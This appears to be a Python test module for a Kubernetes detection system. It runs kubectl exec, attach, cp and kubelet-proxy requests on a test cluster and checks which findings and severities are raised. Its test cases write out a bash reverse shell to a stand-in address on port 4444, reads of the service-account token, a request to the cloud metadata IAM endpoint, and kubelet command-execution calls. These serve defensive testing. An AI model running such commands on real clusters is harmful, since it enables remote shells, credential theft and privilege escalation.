"""What is done within pods that run, and through kubelets."""

from cluster import NODE
from objects import pod
from stage import HIGH, LOW, MEDIUM

IN_SYSTEM = "Execution:Kubernetes/ExecInKubeSystemPod"
EXEC = "Execution:Kubernetes/AnomalousBehavior.ExecInPod"
THEFT = "CredentialAccess:Kubernetes/Ringwall.TokenTheft"
COPIED = "Exfiltration:Kubernetes/Ringwall.FilesCopied"
PROXY = "PrivilegeEscalation:Kubernetes/Ringwall.NodesProxy"

TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
# What kubectl does over WebSocket, it does over SPDY without these.
BY_SPDY = {"KUBECTL_REMOTE_COMMAND_WEBSOCKETS": "false", "KUBECTL_PORT_FORWARD_WEBSOCKETS": "false"}
WEBSOCKET = {
    "Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Key": "dGhlIHNhbXBsZSBub25jZQ==", "Sec-WebSocket-Version": "13",
    "Sec-WebSocket-Protocol": "v4.channel.k8s.io",
}


def verbs(act, subresource):
    """With which verbs something was let in."""
    return {
        event["verb"] for event in act.events()
        if event.get("objectRef", {}).get("subresource") == subresource and event.get("responseStatus", {}).get("code") == 101
    }


def run(stage):
    cluster, report = stage.cluster, stage.report
    admin, ann, stranger = cluster.admin, cluster.person("ann", "system:masters"), cluster.person("stranger", "visitors")
    stage.begin("commands in pods")
    admin.apply(pod("cache", "kube-system", nodeName=NODE), pod("cart", nodeName=NODE))
    for way, variables, verb in [("WebSocket", {}, "get"), ("SPDY", BY_SPDY, "create")]:
        for what, arguments in {"exec": ["--", "ls"], "attach": []}.items():
            with stage.tells(f"{what} in kube-system by {way}", {IN_SYSTEM: MEDIUM}) as act:
                ann.try_kubectl(what, "-n", "kube-system", "cache", *arguments, **variables)
            report.check(verbs(act, what) == {verb}, f"{what} by {way} is `{verb}`: {verbs(act, what)}")
            with stage.silent(f"{what} elsewhere by {way}") as act:
                ann.try_kubectl(what, "-n", "shop", "cart", *arguments, **variables)
            report.check(verbs(act, what) == {verb}, f"{what} by {way} is `{verb}`: {verbs(act, what)}")
        for what, command, expected in [
            ("a reverse shell", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.200/4444 0>&1"], {EXEC: HIGH}),
            ("the pod's token", ["cat", TOKEN], {THEFT: HIGH}),
            ("the metadata service", ["curl", "-s", "http://169.254.169.254/latest/meta-data/iam/"], {THEFT: HIGH}),
            ("a shell", ["sh", "-c", "env | sort"], {}),
        ]:
            with stage.tells(f"{what} by {way}", expected):
                ann.try_kubectl("exec", "-n", "shop", "cart", "--", *command, **variables)
        with stage.tells(f"files copied by {way}", {COPIED: LOW}):
            ann.try_kubectl("cp", "shop/cart:/data/orders", cluster.home / "orders", **variables)
        with stage.tells(f"files copied from kube-system by {way}", {COPIED: MEDIUM, IN_SYSTEM: MEDIUM}):
            ann.try_kubectl("cp", "kube-system/cache:/data/orders", cluster.home / "orders", **variables)
    exec_path = "/api/v1/namespaces/kube-system/pods/cache/exec?command=ls&stdout=true"
    with stage.tells("exec by a WebSocket of one's own", {IN_SYSTEM: MEDIUM}):
        report.check(ann.https("GET", exec_path, headers=WEBSOCKET) == 101, "it is let in")
    with stage.silent("exec that is refused"):
        report.check(stranger.https("GET", exec_path, headers=WEBSOCKET) == 403, "a stranger may not")
    with stage.silent("exec in a pod that is not there"):
        ann.try_kubectl("exec", "-n", "kube-system", "none", "--", "ls")

    if cluster.kubelet.address.startswith("127."):
        print("kubelets through the apiserver: not asked, as this machine has no address but loopback", flush=True)
        return
    stage.begin("kubelets through the apiserver")
    proxy = f"/api/v1/nodes/{NODE}/proxy"
    for method, path, expected in [
        ("POST", "/run/shop/cart/app?cmd=id", {PROXY: HIGH}), ("POST", "/exec/shop/cart/app?command=id", {PROXY: HIGH}),
        ("GET", "/pods", {PROXY: MEDIUM}), ("GET", "/metrics", {}), ("GET", "/stats/summary", {}), ("GET", "/healthz", {}),
    ]:
        with stage.tells(f"{method} {path} of a kubelet", expected):
            report.check(ann.https(method, proxy + path) == 200, f"{method} {path} is answered")
    with stage.silent("a kubelet's command, refused"):
        report.check(stranger.https("POST", f"{proxy}/run/shop/cart/app?cmd=id") == 403, "a stranger may not")
